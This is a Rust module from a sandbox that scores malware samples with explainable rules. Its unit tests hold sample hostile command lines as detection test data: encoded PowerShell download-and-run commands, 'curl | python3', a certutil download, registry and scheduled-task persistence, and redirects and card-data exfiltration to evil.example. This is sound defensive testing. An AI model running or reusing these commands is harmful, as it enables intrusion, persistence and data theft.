//! Explainable verdicts: rules (data, in TOML) evaluated over a report.
//!
//! A [`Verdict`] is a pure function of a report's JSON and a [`Rules`] set: `airlock analyze`
//! computes it from the report it writes, and `airlock verdict REPORT.json` recomputes it from a
//! saved report with the same result. Every point of a score names the rule that gave it and the
//! events or indicators that fired the rule.
//!
//! The built-in rules are `rules/verdict.toml` in the repository ([`Rules::builtin`]); its header
//! documents the rule language.

use std::collections::BTreeMap;

use regex::Regex;
use serde::{Deserialize, Serialize};
use serde_json::Value;
use sha2::{Digest, Sha256};

use crate::error::{Error, Result};

const BUILTIN: &str = include_str!("../../../rules/verdict.toml");

/// Evidence items kept per reason (the count says how many there were).
const MAX_EVIDENCE: usize = 5;
/// Characters kept of one evidence item.
const MAX_EVIDENCE_CHARS: usize = 200;

/// benign, suspicious, malicious, or not analysed by this tier.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Level {
    /// Nothing the rules consider harmful.
    Benign,
    /// The file was not run: its type is not one this tier analyses, or it could not be read.
    NotAnalysed,
    /// Some harmful-looking behaviour, below the malicious threshold.
    Suspicious,
    /// Behaviour the rules score at or above the malicious threshold.
    Malicious,
}

impl Level {
    /// The verdict's name as written in reports.
    pub fn as_str(self) -> &'static str {
        match self {
            Level::Benign => "benign",
            Level::NotAnalysed => "not_analysed",
            Level::Suspicious => "suspicious",
            Level::Malicious => "malicious",
        }
    }
}

impl std::fmt::Display for Level {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.as_str())
    }
}

/// How far the score is from a threshold, and whether the run was complete.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Confidence {
    /// Within 10 points of a threshold, or the run was incomplete and close to one.
    Low,
    /// 10-19 points from the nearest threshold.
    Medium,
    /// 20 or more points from the nearest threshold, and the run complete.
    High,
}

/// One rule that fired.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Reason {
    /// The rule's id.
    pub rule: String,
    /// What the rule means.
    pub description: String,
    /// Points it added.
    pub points: u32,
    /// What fired it: events (`#seq call(args)`) and indicators (`kind: value`), at most five.
    pub evidence: Vec<String>,
    /// How many items matched in all.
    pub matched: usize,
}

/// The verdict section of a report.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Verdict {
    /// The verdict.
    pub verdict: Level,
    /// Sum of the reasons' points, at most 100.
    pub score: u32,
    /// How sure the verdict is.
    pub confidence: Confidence,
    /// The rules that fired, highest points first.
    pub reasons: Vec<Reason>,
    /// SHA-256 of the rules file used.
    pub rules_sha256: String,
    /// Why the file was not analysed (for `not_analysed`).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub not_analysed: Option<String>,
}

impl Verdict {
    /// The one-line summary: `malicious 85/100 (high)`.
    pub fn summary(&self) -> String {
        match &self.not_analysed {
            Some(why) => format!("not analysed by this tier: {why}"),
            None => format!(
                "{} {}/100 ({} confidence)",
                self.verdict,
                self.score,
                match self.confidence {
                    Confidence::Low => "low",
                    Confidence::Medium => "medium",
                    Confidence::High => "high",
                }
            ),
        }
    }
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct RulesFile {
    version: u32,
    thresholds: Thresholds,
    #[serde(default)]
    rule: Vec<RuleSpec>,
}

#[derive(Debug, Clone, Copy, Deserialize)]
#[serde(deny_unknown_fields)]
struct Thresholds {
    malicious: u32,
    suspicious: u32,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct RuleSpec {
    id: String,
    description: String,
    points: u32,
    #[serde(default)]
    when: Vec<CondSpec>,
    #[serde(default)]
    any: Vec<CondSpec>,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct CondSpec {
    event: Option<String>,
    category: Option<String>,
    args: Option<String>,
    not_args: Option<String>,
    after: Option<String>,
    indicator: Option<String>,
    field: Option<String>,
    matches: Option<String>,
    #[serde(default)]
    other_origin: bool,
    file_type: Option<String>,
    status: Option<String>,
    predicate: Option<String>,
    min: Option<usize>,
}

/// A compiled condition.
#[derive(Debug)]
enum Cond {
    Event {
        call: Regex,
        category: Option<String>,
        args: Option<Regex>,
        not_args: Option<Regex>,
        after: Option<Regex>,
        /// The event's first argument, a URL as the page resolves it, is on another site.
        other_origin: bool,
        min: usize,
    },
    Indicator {
        kind: String,
        field: Option<String>,
        matches: Option<Regex>,
        other_origin: bool,
        min: usize,
    },
    FileType(Regex),
    Status(Regex),
    RunsWrittenFile,
    TamperedChannel,
}

#[derive(Debug)]
struct Rule {
    id: String,
    description: String,
    points: u32,
    all: Vec<Cond>,
    any: Vec<Cond>,
}

/// A compiled rules set.
#[derive(Debug)]
pub struct Rules {
    rules: Vec<Rule>,
    thresholds: Thresholds,
    sha256: String,
}

const INDICATOR_KINDS: [&str; 10] = [
    "urls",
    "domains",
    "ip_addresses",
    "commands",
    "files_written",
    "registry",
    "scheduled_tasks",
    "shortcuts",
    "snippets",
    "outbound",
];

fn regex(rule: &str, what: &str, re: &str) -> Result<Regex> {
    Regex::new(re).map_err(|e| Error::Config(format!("rule {rule}: bad {what} regex: {e}")))
}

fn compile(rule: &str, c: &CondSpec) -> Result<Cond> {
    let opt =
        |what: &str, re: &Option<String>| re.as_deref().map(|r| regex(rule, what, r)).transpose();
    let min = c.min.unwrap_or(1).max(1);
    let sources = [
        c.event.is_some(),
        c.indicator.is_some(),
        c.file_type.is_some(),
        c.status.is_some(),
        c.predicate.is_some(),
    ]
    .iter()
    .filter(|x| **x)
    .count();
    if sources != 1 {
        return Err(Error::Config(format!(
            "rule {rule}: a condition needs exactly one of event, indicator, file_type, status, predicate"
        )));
    }
    if let Some(call) = &c.event {
        if c.field.is_some() || c.matches.is_some() {
            return Err(Error::Config(format!(
                "rule {rule}: field and matches are for indicators (events take args, not_args, after, other_origin)"
            )));
        }
        return Ok(Cond::Event {
            call: regex(rule, "event", call)?,
            category: c.category.clone(),
            args: opt("args", &c.args)?,
            not_args: opt("not_args", &c.not_args)?,
            after: opt("after", &c.after)?,
            other_origin: c.other_origin,
            min,
        });
    }
    if c.args.is_some() || c.not_args.is_some() || c.after.is_some() || c.category.is_some() {
        return Err(Error::Config(format!(
            "rule {rule}: category, args, not_args and after are for events"
        )));
    }
    if let Some(kind) = &c.indicator {
        if !INDICATOR_KINDS.contains(&kind.as_str()) {
            return Err(Error::Config(format!(
                "rule {rule}: unknown indicator kind {kind:?} (one of {})",
                INDICATOR_KINDS.join(", ")
            )));
        }
        return Ok(Cond::Indicator {
            kind: kind.clone(),
            field: c.field.clone(),
            matches: opt("matches", &c.matches)?,
            other_origin: c.other_origin,
            min,
        });
    }
    if let Some(t) = &c.file_type {
        return Ok(Cond::FileType(regex(rule, "file_type", t)?));
    }
    if let Some(s) = &c.status {
        return Ok(Cond::Status(regex(rule, "status", s)?));
    }
    match c.predicate.as_deref() {
        Some("runs-written-file") => Ok(Cond::RunsWrittenFile),
        Some("tampered-channel") => Ok(Cond::TamperedChannel),
        other => Err(Error::Config(format!(
            "rule {rule}: unknown predicate {other:?} (known: runs-written-file, tampered-channel)"
        ))),
    }
}

impl Rules {
    /// The rules built into this airlock (`rules/verdict.toml`).
    pub fn builtin() -> Rules {
        // The built-in file is checked by the tests; failing here would be a build defect.
        Rules::parse(BUILTIN).unwrap_or_else(|e| panic!("built-in rules: {e}"))
    }

    /// Parses and compiles a rules file's text.
    pub fn parse(text: &str) -> Result<Rules> {
        let file: RulesFile =
            toml::from_str(text).map_err(|e| Error::Config(format!("rules file: {e}")))?;
        if file.version != 1 {
            return Err(Error::Config(format!(
                "rules file version {} (this airlock reads version 1)",
                file.version
            )));
        }
        if file.thresholds.suspicious == 0 || file.thresholds.suspicious > file.thresholds.malicious
        {
            return Err(Error::Config(
                "rules file: thresholds need 0 < suspicious <= malicious".into(),
            ));
        }
        let mut seen = std::collections::BTreeSet::new();
        let mut rules = Vec::with_capacity(file.rule.len());
        for r in &file.rule {
            if !seen.insert(r.id.clone()) {
                return Err(Error::Config(format!("rule {} is defined twice", r.id)));
            }
            if r.when.is_empty() && r.any.is_empty() {
                return Err(Error::Config(format!("rule {} has no condition", r.id)));
            }
            rules.push(Rule {
                id: r.id.clone(),
                description: r.description.clone(),
                points: r.points,
                all: r
                    .when
                    .iter()
                    .map(|c| compile(&r.id, c))
                    .collect::<Result<_>>()?,
                any: r
                    .any
                    .iter()
                    .map(|c| compile(&r.id, c))
                    .collect::<Result<_>>()?,
            });
        }
        Ok(Rules {
            rules,
            thresholds: file.thresholds,
            sha256: hex(&Sha256::digest(text.as_bytes())),
        })
    }

    /// SHA-256 of the rules file's text.
    pub fn sha256(&self) -> &str {
        &self.sha256
    }

    /// How many rules there are.
    pub fn len(&self) -> usize {
        self.rules.len()
    }

    /// True if there are no rules.
    pub fn is_empty(&self) -> bool {
        self.rules.is_empty()
    }

    /// The verdict on a report (its JSON, as `airlock analyze` writes it). A report whose
    /// `analysis.not_analysed` says why the file was not run gets [`Level::NotAnalysed`].
    pub fn evaluate(&self, report: &Value) -> Verdict {
        if let Some(why) = report
            .pointer("/analysis/not_analysed")
            .and_then(Value::as_str)
        {
            return Verdict {
                verdict: Level::NotAnalysed,
                score: 0,
                confidence: Confidence::High,
                reasons: Vec::new(),
                rules_sha256: self.sha256.clone(),
                not_analysed: Some(why.to_string()),
            };
        }
        let facts = Facts::of(report);
        let mut reasons: Vec<Reason> = self.rules.iter().filter_map(|r| r.fire(&facts)).collect();
        reasons.sort_by(|a, b| b.points.cmp(&a.points).then(a.rule.cmp(&b.rule)));
        let score = reasons.iter().map(|r| r.points).sum::<u32>().min(100);
        let t = self.thresholds;
        let verdict = if score >= t.malicious {
            Level::Malicious
        } else if score >= t.suspicious {
            Level::Suspicious
        } else {
            Level::Benign
        };
        let distance = [t.suspicious, t.malicious]
            .iter()
            .map(|&x| score.abs_diff(x))
            .min()
            .unwrap_or(0);
        // Events lost on the way (the trace's cap, lines the emulation could not take or that
        // were forged) leave the score resting on part of what the sample did.
        let complete = facts.status == "exited"
            && facts.exit_code == 0
            && !facts.events_dropped
            && !facts.lines_lost
            && !facts.partial;
        let confidence = match (distance, complete) {
            (d, true) if d >= 20 => Confidence::High,
            (d, _) if d >= 10 => Confidence::Medium,
            _ => Confidence::Low,
        };
        // A file analysed only in part (a page too slow to search, encoded script) that showed
        // nothing harmful there was not analysed: the rest of it could hold anything.
        if facts.partial && verdict == Level::Benign {
            return Verdict {
                verdict: Level::NotAnalysed,
                score,
                confidence,
                reasons,
                rules_sha256: self.sha256.clone(),
                not_analysed: Some(
                    "only part of the file was analysed (the notes say why), and that part \
                     showed nothing harmful"
                        .into(),
                ),
            };
        }
        Verdict {
            verdict,
            score,
            confidence,
            reasons,
            rules_sha256: self.sha256.clone(),
            not_analysed: None,
        }
    }
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

/// What the rules look at, taken from the report once.
struct Facts<'a> {
    events: Vec<Ev<'a>>,
    indicators: BTreeMap<&'a str, &'a [Value]>,
    file_type: &'a str,
    status: &'a str,
    /// The exit code when the run exited (an uncaught exception is 1: the sample stopped early).
    exit_code: u64,
    events_dropped: bool,
    /// The emulation's event lines that were forged, dropped, or snippets it could not keep.
    lines_lost: bool,
    forged_lines: u64,
    /// Only part of the file was analysed (`analysis.partial`).
    partial: bool,
    /// The page's address (the browser environment's `page` event), which URLs resolve against.
    page: Option<url::Url>,
}

struct Ev<'a> {
    seq: u64,
    call: &'a str,
    args: &'a str,
    category: &'a str,
}

impl<'a> Facts<'a> {
    fn of(report: &'a Value) -> Facts<'a> {
        let s = |p: &str| report.pointer(p).and_then(Value::as_str).unwrap_or("");
        let n = |p: &str| report.pointer(p).and_then(Value::as_u64).unwrap_or(0);
        let events: Vec<Ev<'a>> = report
            .get("events")
            .and_then(Value::as_array)
            .map(|a| {
                a.iter()
                    .map(|e| Ev {
                        seq: e.get("seq").and_then(Value::as_u64).unwrap_or(0),
                        call: e.get("call").and_then(Value::as_str).unwrap_or(""),
                        args: e.get("args").and_then(Value::as_str).unwrap_or(""),
                        category: e.get("category").and_then(Value::as_str).unwrap_or(""),
                    })
                    .collect()
            })
            .unwrap_or_default();
        let indicators = report
            .pointer("/emulation/indicators")
            .and_then(Value::as_object)
            .map(|o| {
                o.iter()
                    .filter_map(|(k, v)| Some((k.as_str(), v.as_array()?.as_slice())))
                    .collect()
            })
            .unwrap_or_default();
        Facts {
            indicators,
            file_type: s("/analysis/file_type"),
            status: s("/outcome/status/kind"),
            exit_code: n("/outcome/status/code"),
            events_dropped: report
                .get("events_dropped")
                .and_then(Value::as_u64)
                .is_some_and(|n| n > 0),
            lines_lost: ["forged_lines", "dropped_lines", "snippets_dropped"]
                .iter()
                .any(|k| n(&format!("/emulation/{k}")) > 0),
            forged_lines: n("/emulation/forged_lines"),
            partial: report
                .pointer("/analysis/partial")
                .and_then(Value::as_bool)
                .unwrap_or(false),
            page: events
                .iter()
                .find(|e| e.call == "page")
                .and_then(|e| first_string(e.args))
                .and_then(|p: String| url::Url::parse(&p).ok()),
            events,
        }
    }

    /// Whether an event's first argument is a URL, resolved as the page resolves it (WHATWG:
    /// case, spaces, backslashes, `//host`, user info), on another site than the page's. A
    /// script's raw string is what the event keeps; this is where the browser would go.
    fn goes_elsewhere(&self, args: &str) -> bool {
        // Arguments that cannot be read back count as elsewhere: a script must not hide a URL
        // by making it unreadable here.
        let Some(raw) = first_string(args) else {
            return true;
        };
        let url = match &self.page {
            Some(page) => page.join(&raw),
            None => url::Url::parse(&raw),
        };
        url.is_ok_and(|u| {
            matches!(u.scheme(), "http" | "https" | "ws" | "wss")
                && self.page.as_ref().is_none_or(|p| u.host() != p.host())
        })
    }

    fn indicators(&self, kind: &str) -> &'a [Value] {
        self.indicators.get(kind).copied().unwrap_or(&[])
    }
}

/// The first argument of an event's arguments (`"text", ...`), when it is a string.
///
/// Arguments are written as Rust writes a string for debugging (`"a\u{1}b"`), which this reads
/// back.
fn first_string(args: &str) -> Option<String> {
    let mut chars = args.strip_prefix('"')?.chars();
    let mut out = String::new();
    loop {
        match chars.next()? {
            '"' => return Some(out),
            '\\' => out.push(match chars.next()? {
                '0' => '\0',
                't' => '\t',
                'r' => '\r',
                'n' => '\n',
                'u' => {
                    let rest = chars.as_str().strip_prefix('{')?;
                    let (hex, after) = rest.split_once('}')?;
                    chars = after.chars();
                    char::from_u32(u32::from_str_radix(hex, 16).ok()?)?
                }
                c => c, // \\, \", \'
            }),
            c => out.push(c),
        }
    }
}

/// An indicator's main text: the string itself, or its kind's main field.
fn main_field(kind: &str) -> &'static str {
    match kind {
        "files_written" => "path",
        "registry" => "key",
        "scheduled_tasks" => "command",
        "shortcuts" => "target",
        "snippets" => "text",
        "outbound" => "data",
        _ => "",
    }
}

fn text_of<'v>(v: &'v Value, field: &str) -> &'v str {
    match v {
        Value::String(s) => s,
        _ => v.get(field).and_then(Value::as_str).unwrap_or(""),
    }
}

/// The URL an indicator is about (for `other_origin`).
fn url_of(v: &Value) -> &str {
    match v {
        Value::String(s) => s,
        _ => v.get("url").and_then(Value::as_str).unwrap_or(""),
    }
}

fn clip(s: &str) -> String {
    if s.chars().count() <= MAX_EVIDENCE_CHARS {
        s.to_string()
    } else {
        let cut: String = s.chars().take(MAX_EVIDENCE_CHARS).collect();
        format!("{cut}...")
    }
}

impl Cond {
    /// The items that match (as evidence lines), or `None` if fewer than needed.
    fn matches(&self, f: &Facts) -> Option<Vec<String>> {
        let (hits, min) = match self {
            Cond::Event {
                call,
                category,
                args,
                not_args,
                after,
                other_origin,
                min,
            } => {
                let mut armed = after.is_none();
                let mut hits = Vec::new();
                for e in &f.events {
                    let matched = call.is_match(e.call)
                        && category.as_deref().is_none_or(|c| c == e.category)
                        && args.as_ref().is_none_or(|r| r.is_match(e.args))
                        && not_args.as_ref().is_none_or(|r| !r.is_match(e.args))
                        && (!*other_origin || f.goes_elsewhere(e.args));
                    if matched && armed {
                        hits.push(format!("event #{} {}({})", e.seq, e.call, e.args));
                    }
                    if let Some(a) = after
                        && !armed
                        && a.is_match(&format!("{}({})", e.call, e.args))
                    {
                        armed = true;
                    }
                }
                (hits, *min)
            }
            Cond::Indicator {
                kind,
                field,
                matches,
                other_origin,
                min,
            } => {
                let field = field.as_deref().unwrap_or_else(|| main_field(kind));
                let hits = f
                    .indicators(kind)
                    .iter()
                    .filter(|v| !*other_origin || is_other_origin(url_of(v)))
                    .filter(|v| {
                        matches
                            .as_ref()
                            .is_none_or(|r| r.is_match(text_of(v, field)))
                    })
                    .map(|v| {
                        let shown = match v {
                            Value::String(s) => s.clone(),
                            _ => {
                                let main = text_of(v, field);
                                let url = url_of(v);
                                if url.is_empty() || url == main {
                                    main.to_string()
                                } else {
                                    format!("{url} <- {main}")
                                }
                            }
                        };
                        format!("{kind}: {shown}")
                    })
                    .collect();
                (hits, *min)
            }
            Cond::FileType(r) => (
                if r.is_match(f.file_type) {
                    vec![format!("file type: {}", f.file_type)]
                } else {
                    Vec::new()
                },
                1,
            ),
            Cond::Status(r) => (
                if r.is_match(f.status) {
                    vec![format!("status: {}", f.status)]
                } else {
                    Vec::new()
                },
                1,
            ),
            Cond::RunsWrittenFile => (runs_written_file(f), 1),
            Cond::TamperedChannel => (
                (f.forged_lines > 0)
                    .then(|| {
                        format!(
                            "emulation: {} line(s) written to airlock's event channel without its token",
                            f.forged_lines
                        )
                    })
                    .into_iter()
                    .collect(),
                1,
            ),
        };
        (hits.len() >= min).then_some(hits)
    }
}

/// Commands that name a file the sample wrote (case-insensitively, by full path).
fn runs_written_file(f: &Facts) -> Vec<String> {
    let written: Vec<String> = f
        .indicators("files_written")
        .iter()
        .map(|v| text_of(v, "path").to_lowercase())
        .filter(|p| p.len() > 3)
        .collect();
    f.indicators("commands")
        .iter()
        .filter_map(Value::as_str)
        .filter_map(|c| {
            let lc = c.to_lowercase();
            written
                .iter()
                .find(|p| lc.contains(p.as_str()))
                .map(|p| format!("commands: {c} (runs {p})"))
        })
        .collect()
}

/// Whether a URL indicator is another site's: the emulated page's own URLs are paths (`/x`).
fn is_other_origin(url: &str) -> bool {
    !url.is_empty() && !url.starts_with('/')
}

impl Rule {
    fn fire(&self, f: &Facts) -> Option<Reason> {
        let mut evidence = Vec::new();
        for c in &self.all {
            evidence.extend(c.matches(f)?);
        }
        if !self.any.is_empty() {
            let mut any = false;
            for c in &self.any {
                if let Some(e) = c.matches(f) {
                    any = true;
                    evidence.extend(e);
                }
            }
            if !any {
                return None;
            }
        }
        let matched = evidence.len();
        evidence.dedup();
        evidence.truncate(MAX_EVIDENCE);
        Some(Reason {
            rule: self.id.clone(),
            description: self.description.clone(),
            points: self.points,
            evidence: evidence.iter().map(|e| clip(e)).collect(),
            matched,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn report(events: Value, indicators: Value) -> Value {
        json!({
            "analysis": { "file_type": "javascript" },
            "outcome": { "status": { "kind": "exited", "code": 0 } },
            "events_dropped": 0,
            "events": events,
            "emulation": { "indicators": indicators },
        })
    }

    #[test]
    fn the_builtin_rules_compile() {
        let r = Rules::builtin();
        assert!(r.len() > 20);
        assert_eq!(r.sha256().len(), 64);
    }

    #[test]
    fn nothing_seen_is_benign_with_high_confidence() {
        let v = Rules::builtin().evaluate(&report(json!([]), json!({})));
        assert_eq!(v.verdict, Level::Benign);
        assert_eq!(v.score, 0);
        assert_eq!(v.confidence, Confidence::High);
        assert!(v.reasons.is_empty());
        // A page searched only in part that showed nothing there is not analysed.
        let mut r = report(json!([]), json!({}));
        r["analysis"]["partial"] = json!(true);
        let v = Rules::builtin().evaluate(&r);
        assert_eq!(v.verdict, Level::NotAnalysed);
        assert!(v.not_analysed.unwrap().contains("only part of the file"));
    }

    #[test]
    fn lost_or_forged_channel_lines_lower_confidence_and_forged_ones_score() {
        let rules = Rules::builtin();
        for (key, tampered) in [
            ("forged_lines", true),
            ("dropped_lines", false),
            ("snippets_dropped", false),
        ] {
            let mut r = report(json!([]), json!({}));
            r["emulation"][key] = json!(2);
            let v = rules.evaluate(&r);
            assert_ne!(v.confidence, Confidence::High, "{key}");
            let fired = v
                .reasons
                .iter()
                .any(|r| r.rule == "anti.tampers-with-recording");
            assert_eq!(fired, tampered, "{key}");
        }
        // An uncaught exception ended the sample early: what it would have done next is unseen.
        let mut r = report(json!([]), json!({}));
        r["outcome"]["status"]["code"] = json!(1);
        assert_eq!(rules.evaluate(&r).confidence, Confidence::Medium);
    }

    #[test]
    fn every_ending_at_a_limit_is_a_run_that_did_not_finish() {
        use crate::{LimitedResource, Status, Stream};
        // Exhaustive on purpose: a new way for a run to end must be placed here.
        let at_a_limit = |s: &Status| match s {
            Status::Exited { .. } | Status::Trap { .. } => false,
            Status::Timeout { .. }
            | Status::FuelExhausted { .. }
            | Status::MemoryLimit { .. }
            | Status::OutputLimit { .. }
            | Status::ResourceLimit { .. } => true,
        };
        let all = [
            Status::Exited { code: 0 },
            Status::Trap {
                code: "unreachable".into(),
                message: String::new(),
                backtrace: Vec::new(),
            },
            Status::Timeout { limit_ms: 1 },
            Status::FuelExhausted { limit: 1 },
            Status::MemoryLimit {
                limit_bytes: 1,
                detail: String::new(),
            },
            Status::OutputLimit {
                stream: Stream::Stdout,
                limit_bytes: 1,
            },
            Status::ResourceLimit {
                resource: LimitedResource::Handles,
                limit: 1,
                detail: String::new(),
            },
        ];
        let rules = Rules::builtin();
        for status in all {
            let mut r = report(json!([]), json!({}));
            r["outcome"]["status"] = serde_json::to_value(&status).unwrap();
            let fired = rules
                .evaluate(&r)
                .reasons
                .iter()
                .any(|r| r.rule == "run.did-not-finish");
            assert_eq!(fired, at_a_limit(&status), "{}", status.kind());
        }
    }

    #[test]
    fn a_url_is_judged_where_the_page_would_go_not_by_its_spelling() {
        let rules = Rules::builtin();
        let redirects = |url: &str| {
            // As the emulation writes arguments (Rust's debug form of a string).
            let events = json!([
                { "seq": 0, "call": "page", "args": "\"https://page.test/index.html\"", "category": "dom" },
                { "seq": 1, "call": "location.href", "args": format!("{url:?}"), "category": "network" },
            ]);
            rules
                .evaluate(&report(events, json!({})))
                .reasons
                .iter()
                .any(|r| r.rule == "browser.redirect")
        };
        for elsewhere in [
            "https://evil.example/p",
            "HTTPS://evil.example/p",
            " https://evil.example/p",
            "https:\\\\evil.example/p",
            "//evil.example/p",
            "https://page.test:x@evil.example/p",
            "http://page.test.evil.example/",
            "\u{1}https://evil.example/p",
            "\0https://evil.example/p",
            "https://evil.example/ph\u{200b}ish\u{2028}",
            "https://evil.example/\"quoted\\",
        ] {
            assert!(redirects(elsewhere), "{elsewhere}");
        }
        for own in [
            "/login",
            "login",
            "https://page.test/x",
            "HTTPS://PAGE.TEST/x",
            "https:evil.example/p", // relative on an https: page
            "#top",
            "javascript:void 0",
        ] {
            assert!(!redirects(own), "{own}");
        }
    }

    #[test]
    fn command_lines_are_read_as_their_shells_read_them() {
        let rules = Rules::builtin();
        let fired = |command: &str| -> Vec<String> {
            rules
                .evaluate(&report(json!([]), json!({ "commands": [command] })))
                .reasons
                .into_iter()
                .map(|r| r.rule)
                .filter(|r| r != "process.command")
                .collect()
        };
        for evasive in [
            "powershell -w hidden -enc QUFBQUFBQUFBQUFB",
            "powershell -ec QUFBQUFBQUFBQUFB",
            "powershell.exe /en QUFBQUFBQUFBQUFB",
            "pwsh -win 1 -c x",
            "powershell -c \"I`EX (New-Object Net.WebClient).DownloadString('http://x')\"",
            "sh -c \"curl -s http://x.example/a | python3\"",
            "cmd /c c^ertutil -urlcache -f http://x.example/a a.exe",
        ] {
            assert_eq!(
                fired(evasive),
                ["process.evasive-command-line"],
                "{evasive}"
            );
        }
        for persists in [
            "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d a.exe /f",
            "cmd /c schtasks /create /tn x /tr a.exe /sc onlogon",
        ] {
            assert_eq!(fired(persists), ["persistence.command-line"], "{persists}");
        }
        for plain in [
            "powershell -ExecutionPolicy Unrestricted -File a.ps1",
            "powershell -ExecutionPolicy Bypass -File deploy.ps1 -Environment Production",
            "powershell -Command \"Get-Content log.txt -Encoding BigEndianUnicode | Out-File o.txt\"",
            "powershell -File resize.ps1 -Width 1",
            "wget -w 1 http://x.example/a",
            "notepad.exe readme.txt",
            "reg query HKLM\\Software",
        ] {
            assert!(fired(plain).is_empty(), "{plain}: {:?}", fired(plain));
        }
    }

    #[test]
    fn every_point_names_its_rule_and_evidence() {
        let r = report(
            json!([{ "seq": 4, "call": "WScript.Shell.RegWrite", "args": "\"HKCU\\\\...\"", "category": "registry" }]),
            json!({
                "registry": [{ "key": "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\X", "value": "a.exe" }],
                "commands": ["C:\\Users\\user\\AppData\\Local\\Temp\\a.exe"],
                "files_written": [{ "path": "C:\\Users\\user\\AppData\\Local\\Temp\\a.exe" }],
            }),
        );
        let v = Rules::builtin().evaluate(&r);
        assert_eq!(v.verdict, Level::Malicious);
        let sum: u32 = v.reasons.iter().map(|r| r.points).sum();
        assert_eq!(v.score, sum.min(100));
        let ids: Vec<&str> = v.reasons.iter().map(|r| r.rule.as_str()).collect();
        for id in [
            "persistence.registry-autostart",
            "registry.write",
            "process.command",
            "process.runs-written-file",
            "files.executable-written",
        ] {
            assert!(ids.contains(&id), "{id} in {ids:?}");
        }
        assert!(v.reasons.iter().all(|r| !r.evidence.is_empty()));
        let run = v
            .reasons
            .iter()
            .find(|r| r.rule == "process.runs-written-file")
            .unwrap();
        assert!(run.evidence[0].contains("runs c:\\users\\user\\appdata\\local\\temp\\a.exe"));
    }

    #[test]
    fn after_conditions_need_the_earlier_event() {
        let beacon = json!({ "seq": 9, "call": "img.src", "args": "\"http://x.example/k?k=4\"", "category": "dom" });
        let typed =
            json!({ "seq": 8, "call": "dispatch", "args": "\"keydown\"", "category": "dom" });
        let rules = Rules::builtin();
        let fired = |events: Value| {
            rules
                .evaluate(&report(events, json!({})))
                .reasons
                .iter()
                .any(|r| r.rule == "exfil.after-user-input")
        };
        assert!(fired(json!([typed.clone(), beacon.clone()])));
        assert!(!fired(json!([beacon.clone(), typed.clone()])));
        let own = json!({ "seq": 9, "call": "img.src", "args": "\"/k?k=4\"", "category": "dom" });
        assert!(!fired(json!([typed, own])));
    }

    #[test]
    fn other_origin_skips_the_pages_own_urls() {
        let rules = Rules::builtin();
        let sent = |url: &str| {
            let r = report(
                json!([]),
                json!({ "outbound": [{ "url": url, "api": "fetch", "data": "cardnumber=4111111111111111" }] }),
            );
            rules
                .evaluate(&r)
                .reasons
                .iter()
                .any(|r| r.rule == "exfil.sensitive-data")
        };
        assert!(sent("https://evil.example/c"));
        assert!(!sent("/checkout/pay"));
    }

    #[test]
    fn not_analysed_reports_say_why() {
        let v =
            Rules::builtin().evaluate(&json!({ "analysis": { "not_analysed": "ELF executable" } }));
        assert_eq!(v.verdict, Level::NotAnalysed);
        assert_eq!(v.not_analysed.as_deref(), Some("ELF executable"));
    }

    #[test]
    fn bad_rules_files_are_clear_errors() {
        let bad = |text: &str| Rules::parse(text).unwrap_err().to_string();
        let head = "version = 1\n[thresholds]\nmalicious = 50\nsuspicious = 20\n";
        assert!(
            bad("version = 2\n[thresholds]\nmalicious = 50\nsuspicious = 20\n")
                .contains("version 2")
        );
        assert!(bad(&format!("{head}[[rule]]\nid = \"a\"\ndescription = \"d\"\npoints = 1\nwhen = [{{ event = \"(\" }}]\n")).contains("rule a: bad event regex"));
        assert!(bad(&format!("{head}[[rule]]\nid = \"a\"\ndescription = \"d\"\npoints = 1\nwhen = [{{ indicator = \"nope\" }}]\n")).contains("unknown indicator kind"));
        assert!(
            bad(&format!(
                "{head}[[rule]]\nid = \"a\"\ndescription = \"d\"\npoints = 1\n"
            ))
            .contains("no condition")
        );
        assert!(bad(&format!("{head}[[rule]]\nid = \"a\"\ndescription = \"d\"\npoints = 1\nwhen = [{{ event = \"x\", indicator = \"urls\" }}]\n")).contains("exactly one"));
        assert!(bad(&format!("{head}[[rule]]\nid = \"a\"\ndescription = \"d\"\npoints = 1\nwhen = [{{ evnt = \"x\" }}]\n")).contains("unknown field"));
    }
}
